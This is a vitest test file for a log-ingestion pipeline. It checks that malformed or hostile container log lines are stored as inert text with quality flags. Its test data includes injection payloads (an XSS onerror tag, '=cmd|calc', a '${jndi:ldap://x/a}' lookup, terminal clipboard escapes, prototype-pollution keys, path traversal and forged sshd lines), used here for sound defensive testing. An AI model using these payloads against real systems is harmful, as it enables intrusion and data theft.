import { describe, expect, test } from 'vitest'
import { EventFlag } from '../../src/core/event-batch.ts'
import { EVENT_TEXT_BYTES_MAX } from '../../src/core/limits.ts'
import { formats } from '../../src/parsers/registry.ts'
import { criLine, eventsOfLines, pipelineOf, type TestEvent, TestStream, WALL_TIME_MS } from './stream-of.ts'

/** The one line, between two ordinary ones that must come out unharmed. */
function between(text: string | Buffer, options: Parameters<typeof criLine>[1] = {}): TestEvent {
  const events = eventsOfLines([criLine('before'), criLine(text, options), criLine('after')])
  expect(events.map(({ id }) => id.split(':')[1])).toEqual(['0', '1', '2'])
  expect(events[0]!.document.message).toBe('before')
  expect(events[2]!.document.message).toBe('after')
  for (const neighbour of [events[0]!, events[2]!]) expect(neighbour.flags).toBe(0)
  return events[1]!
}

function qualityOf(event: TestEvent): readonly string[] {
  return event.document.decklog.quality ?? []
}

describe('bad input: content and encoding', () => {
  test('invalid UTF-8 is shown with U+FFFD, and its exact bytes are kept', () => {
    const bytes = Buffer.from([0x61, 0xff, 0xc0, 0x80, 0x62])
    const event = between(bytes)
    expect(event.document.message).toBe('a\ufffd\ufffd\ufffdb')
    expect(Buffer.from(event.document.decklog.raw, 'base64')).toEqual(bytes)
    expect(qualityOf(event)).toEqual(['invalid-utf8'])
  })

  test('NUL bytes stay in the message', () => {
    const event = between('a\0b')
    expect(event.document.message).toBe('a\0b')
    expect(qualityOf(event)).toEqual(['control-characters'])
  })

  test.each([
    ['a byte order mark', Buffer.from([0xef, 0xbb, 0xbf, 0x61]), '\ufeffa', ['bidi-characters']],
    ['an overlong slash', Buffer.from([0x61, 0xc0, 0xaf, 0x61]), 'a\ufffd\ufffda', ['invalid-utf8']],
    [
      'a lone surrogate',
      Buffer.from([0x61, 0xed, 0xa0, 0x80, 0x61]),
      'a\ufffd\ufffd\ufffda',
      ['invalid-utf8'],
    ],
  ])('%s is no reason to fail', (_, bytes, message, quality) => {
    const event = between(bytes)
    expect(event.document.message).toBe(message)
    expect(qualityOf(event)).toEqual(quality)
  })

  test.each([
    ['colour', '\u001b[31mred\u001b[0m'],
    ['OSC 52 clipboard', '\u001b]52;c;ZXZpbA==\u0007'],
    ['OSC 8 link', '\u001b]8;;http://evil\u001b\\x'],
    ['DCS', '\u001bPq#0\u001b\\'],
    ['a C1 control alone', 'a\u009b31mb'],
    ['backspace editing', 'sdo\b\bудо'],
  ])('terminal controls (%s) stay as they are and are said', (_, text) => {
    const event = between(text)
    expect(event.document.message).toBe(text)
    expect(qualityOf(event)).toEqual(['control-characters'])
  })

  test.each(['\u202egnp.exe', 'zero\u200bwidth', '\u2066isolated\u2069'])(
    'what turns or hides text is said',
    (text) => {
      const event = between(text)
      expect(event.document.message).toBe(text)
      expect(qualityOf(event)).toEqual(['bidi-characters'])
    },
  )

  test('letters that look alike are nothing odd', () => {
    expect(qualityOf(between('аdmin логин 日本語 🎉'))).toEqual([])
  })

  test.each(['a\rb', 'a\vb', 'a\u2028b', 'a\u0085b', 'end\r'])(
    'no character within a line makes a second event',
    (text) => {
      expect(between(text).document.message).toBe(text)
    },
  )

  test.each([
    '<img src=x onerror=alert(1)>',
    '=cmd|calc',
    '${jndi:ldap://x/a}',
    '{{7*7}} %s%n',
    '@everyone [x](javascript:1)',
  ])('what is code elsewhere is text here: %s', (text) => {
    const event = between(text)
    expect(event.document.message).toBe(text)
    expect(qualityOf(event)).toEqual([])
  })
})

describe('bad input: size and structure', () => {
  test.each([
    [1, 1],
    [16, 1],
  ])('a line of %i MB without a newline is one event, cut, with its neighbours whole', (megabytes) => {
    const stream = new TestStream()
    stream.feed([criLine('before')])
    const line = Buffer.concat([criLine('x'.repeat(megabytes * 1_000_000)), Buffer.from('\n')])
    feedFragments(stream, line)
    stream.feed([criLine('after')])
    expect(stream.events.map(({ id }) => id.split(':')[1])).toEqual(['0', '1', '2'])
    const [, event] = stream.events
    const isCut = line.length > EVENT_TEXT_BYTES_MAX
    expect(qualityOf(event!)).toEqual(isCut ? ['truncated'] : [])
    expect(event!.document.message.length).toBeLessThanOrEqual(EVENT_TEXT_BYTES_MAX)
    expect(event!.document.message.length).toBeGreaterThan(900_000)
    expect(stream.openSince).toBe(Number.POSITIVE_INFINITY)
  })

  test('a gigabyte without a newline keeps no more than a megabyte, and settles on its way', () => {
    const stream = new TestStream()
    const chunk = Buffer.alloc(256 * 1024, 0x78)
    let open = 0
    let settledAt = -1
    const state = stream
    for (let index = 0; index < 4096; index++) {
      state.feedRaw(chunk, { count: 0, fragment: { index, last: false }, streamOffset: index * chunk.length })
      open = Math.max(open, state.openBytes)
      if (settledAt < 0 && state.openSince === Number.POSITIVE_INFINITY) settledAt = index
    }
    state.feedRaw(Buffer.from('end\n'), { count: 1, fragment: { index: 4096, last: true } })
    expect(open).toBeLessThanOrEqual(EVENT_TEXT_BYTES_MAX)
    expect(settledAt).toBeLessThan(8)
    expect(stream.events).toHaveLength(1)
    expect(qualityOf(stream.events[0]!)).toContain('truncated')
  })

  test('a part of a line whose end never comes leaves at the next mark', () => {
    const stream = new TestStream()
    stream.feed([criLine('half', { tag: 'P' })])
    expect(stream.events).toEqual([])
    expect(stream.openSince).toBe(0)
    const [event] = stream.idle()
    expect(event!.document.message).toBe('half')
    expect(qualityOf(event!)).toEqual(['partial'])
    expect(stream.openSince).toBe(Number.POSITIVE_INFINITY)
  })

  test.each([65, 10_000, 1_000_000])('JSON nested %i deep is kept as text', (depth) => {
    const text = `{"a":${'['.repeat(depth)}${']'.repeat(depth)}}`
    const stream = new TestStream()
    stream.feed([criLine('before')])
    const line = Buffer.concat([criLine(text), Buffer.from('\n')])
    if (line.length > 256 * 1024) feedFragments(stream, line)
    else stream.feed([line.subarray(0, -1)])
    stream.feed([criLine('after')])
    const event = stream.events[1]!
    expect(stream.events).toHaveLength(3)
    expect(qualityOf(event)).toContain(text.length < EVENT_TEXT_BYTES_MAX ? 'json-depth' : 'truncated')
    expect(event.document.decklog.payload).toBeUndefined()
    expect(event.document.message.startsWith('{"a":[[[')).toBe(true)
  })

  test('JSON nested 63 deep is data', () => {
    const event = between(`{"a":${'['.repeat(63)}${']'.repeat(63)}}`)
    expect(event.document.decklog.payload.a).toBeDefined()
    expect(qualityOf(event)).toEqual([])
  })

  test('100,000 keys are kept as text', () => {
    const keys = Array.from({ length: 100_000 }, (_, n) => `"k${n}":1`)
    const stream = new TestStream()
    feedFragments(stream, Buffer.concat([criLine(`{${keys.join(',')}}`), Buffer.from('\n')]))
    expect(stream.events).toHaveLength(1)
    const two = between(`{${keys.slice(0, 1001).join(',')}}`)
    expect(qualityOf(two)).toEqual(['json-too-many-keys'])
    expect(two.document.decklog.payload).toBeUndefined()
    expect(qualityOf(between(`{${keys.slice(0, 1000).join(',')}}`))).toEqual([])
  })

  test('the same field as text, object and number is each line’s own matter', () => {
    const events = eventsOfLines(['{"f":"x"}', '{"f":{"a":1}}', '{"f":7}'].map((text) => criLine(text)))
    expect(events.map(({ document }) => document.decklog.payload.f)).toEqual(['x', { a: 1 }, 7])
  })

  test.each(['{"user":"root","user":"bob"}', '{"a":{"x":1,"\\u0078":2}}'])(
    'a key twice keeps the text as it is: %s',
    (text) => {
      const event = between(text)
      expect(event.document.message).toBe(text)
      expect(event.document.decklog.payload).toBeUndefined()
      expect(qualityOf(event)).toEqual(['json-duplicate-key'])
    },
  )

  test.each(['12345678901234567890', '9007199254740993', '0.1234567890123456789', '1e400'])(
    'a number that a double cannot hold keeps its digits: %s',
    (number) => {
      const event = between(`{"n":${number}}`)
      expect(event.bytes).toContain(`"payload":{"n":${number}}`)
      expect(qualityOf(event)).toEqual(['json-number-precision'])
    },
  )

  test.each([
    '{"__proto__":{"x":1}}',
    '{"constructor":{"prototype":{"x":1}}}',
    '{"a":{"\\u005f_proto__":{"x":1}}}',
  ])('keys that change prototypes are data only: %s', (text) => {
    const event = between(text)
    expect(event.bytes).toContain(`"payload":${text}`)
    expect(qualityOf(event)).toEqual(['json-proto-key'])
    expect(({} as { x?: unknown }).x).toBeUndefined()
  })

  test('keys with dots, dollars, emoji or nothing are kept', () => {
    const text = '{"a.b":1,"$x":2,"":3,"🎉":4}'
    expect(between(text).document.decklog.payload).toEqual({ 'a.b': 1, $x: 2, '': 3, '🎉': 4 })
  })

  test('a key of 40 kB keeps the text as it is', () => {
    const event = between(`{"${'k'.repeat(40_000)}":1}`)
    expect(qualityOf(event)).toEqual(['json-key-too-long'])
    expect(event.document.message).toHaveLength(40_006)
  })

  test('a key with a NUL keeps the text', () => {
    expect(qualityOf(between('{"a\\u0000":1}'))).toEqual(['json-key-nul'])
  })

  test.each(['{"a":"\\ud800"}', '{"a":"\\udc00x"}', '{"\\ud800":1}'])(
    'half a surrogate pair keeps the text: %s',
    (text) => {
      const event = between(text)
      expect(event.document.message).toBe(text)
      expect(qualityOf(event)).toEqual(['json-lone-surrogate'])
    },
  )

  test.each([
    '{"a":1',
    '{"a":1,}',
    '{"a" 1}',
    '{"a":01}',
    '{"a":.5}',
    '{"a":tru}',
    '{"a":"\t"}',
    '{"a":"\\x"}',
    '{"a":1}}',
    '{"a":1}{"b":2}',
  ])('what is almost JSON is text: %s', (text) => {
    const event = between(text)
    expect(event.document.message).toBe(text)
    expect(event.document.decklog.payload).toBeUndefined()
  })
})

describe('bad input: empty lines', () => {
  test('empty lines are covered as skipped, and 100,000 of them are one cover', () => {
    const stream = new TestStream()
    stream.feed(Array.from({ length: 100_000 }, () => ''))
    stream.feed(['', '\r', criLine('')])
    expect(stream.events).toEqual([])
    expect(stream.covers).toEqual([
      { first: 0, last: 99_999, reason: 'skipped', detail: 'empty' },
      { first: 100_000, last: 100_002, reason: 'skipped', detail: 'empty' },
    ])
  })

  test('a line of spaces is an event', () => {
    expect(between('   ').document.message).toBe('   ')
  })
})

describe('bad input: forgery', () => {
  const sshd = '<34>Oct 11 22:14:15 host sshd[1]: Accepted password for root from 10.0.0.1 port 22 ssh2'

  test('a pod that prints a perfect sshd line is a pod that prints a line', () => {
    const pipeline = pipelineOf({ formats: [...formats.values()] })
    const events = eventsOfLines([criLine(sshd)], pipeline)
    expect(events[0]!.document).toMatchObject({
      message: sshd,
      stream: 'stdout',
      event: { dataset: 'kubernetes.container_logs', module: 'kubernetes' },
      host: { name: 'worker-3' },
    })
    expect(events[0]!.document.process).toBeUndefined()
    expect(events[0]!.document.user).toBeUndefined()
  })

  test('a CRI line within a CRI line is text', () => {
    const text = '2020-01-01T00:00:00Z stderr F forged'
    const event = between(text)
    expect(event.document.message).toBe(text)
    expect(event.document['@timestamp']).toBe('2026-11-24T08:00:00.123456789Z')
  })

  test('trusted fields come from the shipper, whatever a payload says', () => {
    const forged = {
      '@timestamp': '2001-01-01T00:00:00Z',
      kubernetes: { namespace: 'kube-system', pod: { name: 'evil' } },
      tenant: 'other',
      decklog: { class: 'ssh', stream: 'x' },
      event: { dataset: 'system.auth', ingested: '2001-01-01T00:00:00Z' },
      host: { name: 'evil' },
      data_stream: { namespace: 'other' },
      tags: ['trusted'],
      rule: { id: 'x' },
    }
    const event = between(JSON.stringify(forged))
    const { document } = event
    expect(document['@timestamp']).toBe('2026-11-24T08:00:00.123456789Z')
    expect(document.kubernetes).toMatchObject({ namespace: 'shop', pod: { name: 'cart-0', uid: '1234' } })
    expect(document.decklog).toMatchObject({ class: 'pod', payload: forged })
    expect(document.event.dataset).toBe('kubernetes.container_logs')
    expect(document.host.name).toBe('worker-3')
    expect(document.data_stream.namespace).toBe('prod_eu_1.pod')
    expect(document.tags).toBeUndefined()
    expect(document.rule).toBeUndefined()
  })

  test('our own envelopes are data', () => {
    const avro = Buffer.from('c3010b0c0d0e0f10', 'hex')
    expect(between(Buffer.concat([avro, Buffer.from('Obj')])).document.decklog.raw).toBeDefined()
  })

  test('names that look like paths or hold newlines stay values', () => {
    const names = { namespace: '../../etc', pod: 'a\nb"', uid: 'ü'.repeat(63), container: '..', restart: 'x' }
    const provenance = { cluster: 'a/b c', node: '../n', kind: 'pods', format: 'cri', names }
    const stream = new TestStream(pipelineOf(), { provenance, tenant: 'A/b c*' })
    stream.feed([criLine('x')])
    const { document } = stream.events[0]!
    expect(document.kubernetes).toMatchObject({ namespace: '../../etc', pod: { name: 'a\nb"' } })
    expect(document.kubernetes.container.restart_count).toBeUndefined()
    expect(document.data_stream.namespace).toBe('a_b_c_.pod')
  })
})

describe('bad input: time', () => {
  test('a clock that jumps a year keeps both times and the order of seq', () => {
    const times = ['2026-11-24T08:00:00Z', '2025-11-24T08:00:00Z', '2026-11-24T07:59:55Z']
    const events = eventsOfLines(times.map((time) => criLine('x', { time })))
    expect(events.map(({ document }) => document['@timestamp'])).toEqual(times)
    expect(events.map(({ document }) => document.decklog.seq)).toEqual([0, 1, 2])
    for (const { document } of events)
      expect(document.event.created).toBe(new Date(WALL_TIME_MS).toISOString())
  })

  test.each([
    '2026-02-30T00:00:00Z',
    '2026-11-24T08:00:60Z',
    '0000-01-01T00:00:00Z',
    '2026-13-01T00:00:00Z',
    '2026-11-24T24:00:00Z',
    '2026-11-24T08:00:00+19:00',
  ])('a time that does not exist (%s) gives way to the batch’s', (time) => {
    const event = between('x', { time })
    expect(event.document['@timestamp']).toBe(new Date(WALL_TIME_MS).toISOString())
    expect(event.timeNs).toBe(BigInt(WALL_TIME_MS) * 1_000_000n)
    expect(qualityOf(event)).toEqual(['time-invalid'])
    expect(event.flags & EventFlag.timeFromBatch).not.toBe(0)
    expect(event.document.decklog.parts).toEqual([`${time} stdout F 1`])
  })

  test('a line from 2099 keeps its time and says so', () => {
    const event = between('x', { time: '2099-01-02T03:04:05.6Z' })
    expect(event.document['@timestamp']).toBe('2099-01-02T03:04:05.6Z')
    expect(event.timeNs).toBe(BigInt(Date.UTC(2099, 0, 2, 3, 4, 5, 600)) * 1_000_000n)
    expect(qualityOf(event)).toEqual(['time-future'])
  })

  test('10,000 lines of one nanosecond stay in the order of their records', () => {
    const events = eventsOfLines(Array.from({ length: 10_000 }, (_, n) => criLine(`n${n}`)))
    expect(events.map(({ document }) => document.message)).toEqual(
      Array.from({ length: 10_000 }, (_, n) => `n${n}`),
    )
    expect(new Set(events.map(({ timeNs }) => timeNs)).size).toBe(1)
  })
})

function feedFragments(stream: TestStream, line: Buffer): void {
  const size = 256 * 1024
  const pieces = Math.ceil(line.length / size)
  for (let index = 0; index < pieces; index++) {
    const last = index === pieces - 1
    stream.feedRaw(line.subarray(index * size, (index + 1) * size), {
      count: last ? 1 : 0,
      fragment: { index, last },
      streamOffset: index * size,
    })
  }
}
